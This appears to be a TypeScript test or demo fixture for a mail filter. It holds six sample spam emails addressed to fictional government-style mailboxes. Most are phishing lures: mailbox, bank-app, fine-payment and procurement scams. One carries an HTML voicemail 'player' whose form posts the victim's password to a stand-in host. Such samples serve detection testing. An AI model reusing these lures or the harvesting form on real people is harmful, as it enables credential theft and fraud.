import type { Sample } from '../../../demo/form/sample.ts';
import { pdfFile, textFile } from '../file-parts.ts';

export const lures: Sample[] = [
	{
		date: '2026-11-19T04:51:07Z',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'en',
		from: 'spaceforce.ml Message Centre <digest@held-mail-review.example>',
		to: ['j.halloran@spaceforce.ml'],
		subject: '(4) incoming messages are being held for j.halloran',
		format: 'html',
		text: `<!doctype html><html><head><meta charset="utf-8"><style>td{font:14px Segoe UI,Arial}</style></head><body>
<table width="560" align="center" cellpadding="10"><tr><td style="background:#0b5cab;color:#fff">Held messages | spaceforce.ml</td></tr>
<tr><td>Hi j.halloran,<br><br>Our server kept back 4 messages between 17 and 19 November because your mailbox was not yet moved to the new mail gateway.
<table border="1" cellspacing="0" cellpadding="4" width="100%">
<tr><td>Payroll</td><td>Your adjusted statement</td><td><a href="https://held-mail-review.example/r?m=1">Release</a></td></tr>
<tr><td>DocuShare</td><td>Completed: agreement_signed</td><td><a href="https://held-mail-review.example/r?m=2">Release</a></td></tr>
<tr><td>HR Desk</td><td>Leave balance</td><td><a href="https://held-mail-review.example/r?m=3">Release</a></td></tr>
<tr><td>Unknown</td><td>(no subject)</td><td><a href="https://held-mail-review.example/r?m=4">Release</a></td></tr></table><br>
<a href="https://held-mail-review.example/keep" style="background:#0b5cab;color:#fff;padding:9px">Keep my current password</a><br><br>
Messages are destroyed after 24 hours. You will be asked to confirm your mailbox login to prove that it is you.</td></tr>
<tr><td style="color:#999;font-size:11px">Generated for j.halloran@spaceforce.ml by Mail Administration. Do not forward.</td></tr></table></body></html>
`,
	},
	{
		date: '2026-11-09T08:16:44+08:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'en',
		from: 'Leopold Harrington <l.harrington@ashcombe-vale-procurement.example>',
		to: ['l.harrington@ashcombe-vale-procurement.example'],
		bcc: ['contracting.surface@ustranscom.ml', 'info@ustranscom.ml'],
		subject: 'Invitation to quote - 40 ft reefer containers, Q1',
		text: `Good day,

I hope that this finds you well. I write on behalf of Ashcombe & Vale, a diversified trading house with interests in West Africa and the Gulf. Your esteemed organisation was recommended to us by a mutual partner who prefers discretion at this stage.

We have a standing requirement for two hundred (200) refrigerated containers during the first quarter and should be obliged if you would kindly let us have your most competitive offer, on net 60 terms, together with a copy of your company registration. Our full specification and non-disclosure form may be viewed here, after signing in with your business e-mail:

https://files.ashcombe-vale-procurement.example/spec-q1

As our board meets on Friday I would be grateful for an early reply. Please write to me only at this address, since our main line is being renewed.

Yours faithfully,

Leopold Harrington MCIPS
Head of Strategic Sourcing
`,
	},
	{
		date: '2026-11-21T07:30:12+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'fr',
		from: 'Centre de Traitement des Amendes <avis@amendes-reglement-service.example>',
		to: ['l.garnier@intradef.ml'],
		subject: 'Dernier rappel avant majoration - dossier 7741-0926-35',
		text: `Madame, Monsieur,

Sauf erreur de notre part, l'avis de contravention ci-joint demeure impayé à ce jour. Le montant forfaitaire de 35,00 € passera à 75,00 € le 23 novembre 2026 à minuit, puis à 135,00 €.

Pour régler sans majoration, scannez le code figurant sur l'avis avec votre téléphone, ou ouvrez :
https://amendes-reglement-service.example/payer

Munissez-vous de votre carte bancaire et de votre permis de conduire. Si vous avez déjà réglé, ne tenez pas compte de ce courriel.

Le service du recouvrement
Ceci est un message automatique, merci de ne pas y répondre.
`,
		attachments: [
			pdfFile(
				'avis_contravention.pdf',
				`AVIS DE CONTRAVENTION (COPIE)
Dossier 7741-0926-35
Nature : stationnement gênant
Montant forfaitaire : 35,00 EUR
A régler avant le 23/11/2026
Scannez pour payer :
[ QR ]
`,
			),
		],
	},
	{
		date: '2026-11-16T18:44:59+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Uw digitale sleutel <noreply@sleutel-verlengen.example>',
		to: ['s.declercq@mll.be'],
		subject: 'Nog 2 dagen: verleng uw aanmeldapp',
		html: 'alternative',
		text: `Beste gebruiker,

Sinds 1 november gelden in België strengere regels voor aanmelden bij de bank, Tax-on-web en het eHealth-portaal. Uit onze controle blijkt dat u nog de oude versie van uw aanmeldapp hebt. Ze stopt op 18 november.

Verlengen is gratis en duurt drie minuten:
https://sleutel-verlengen.example/be/start

Hou uw bankkaart en kaartlezer bij de hand. Na de verlenging belt een medewerker u om de activatie samen af te ronden.

Doet u niets, dan moet u met uw identiteitskaart langs het gemeentehuis (wachttijd momenteel 6 weken).

Het team Digitale Sleutel
`,
	},
	{
		date: '2026-11-24T14:02:20-05:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'en',
		from: 'Unified Voice <vm-417@cloudpbx-notify.example>',
		to: ['ana.villareal@southcom.ml'],
		subject: 'VM: WIRELESS CALLER left you a msg 00:43s',
		headers: [['X-Mailer', 'CloudPBX Notify 5.2']],
		text: `You have 1 new voice message.

   Caller:    WIRELESS CALLER
   Length:    00:43
   Received:  24 Nov 2026 2:01 PM
   Mailbox:   ana.villareal

Open the attached player to listen. Sign in with your work account if the player asks you to.
`,
		attachments: [
			textFile(
				'VM_0043_play.htm',
				`<html><body onload="document.forms[0].p.focus()"><h3>Voice Player</h3>
<p>Your session has expired. Sign in to listen.</p>
<form action="https://cloudpbx-notify.example/c.php" method="post">
<input name="u" value="ana.villareal@southcom.ml"><br><input name="p" type="password" placeholder="Password"><br>
<button>Listen</button></form></body></html>
`,
				'text/html; charset=utf-8',
			),
		],
	},
	{
		date: '2026-11-26T09:15:03+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'fr',
		from: 'Yassine Ben Amor <yassine@croissance-voix.example>',
		to: ['achats.telephonie@forces.ml'],
		subject: 'Re: notre échange au sujet de votre téléphonie',
		text: `Bonjour,

Je me permets de revenir vers vous, n'ayant pas eu de retour à mes trois derniers courriels. J'imagine que vous êtes très pris, et c'est bien normal en fin d'exercice.

En deux mots : nous aidons des organisations comme la vôtre à réduire de 37 % leur facture de téléphonie, sans changer d'opérateur ni de numéros. Quatre de vos confrères nous ont déjà fait confiance ce trimestre (je ne peux pas citer leurs noms ici).

Auriez-vous quinze minutes mardi ou jeudi ? Voici mon agenda : https://croissance-voix.example/agenda

Si ce n'est pas vous, auriez-vous l'amabilité de m'indiquer la bonne personne ?

Belle journée,
Yassine

P.-S. : répondez STOP et je ne vous écrirai plus, promis.
`,
	},
];
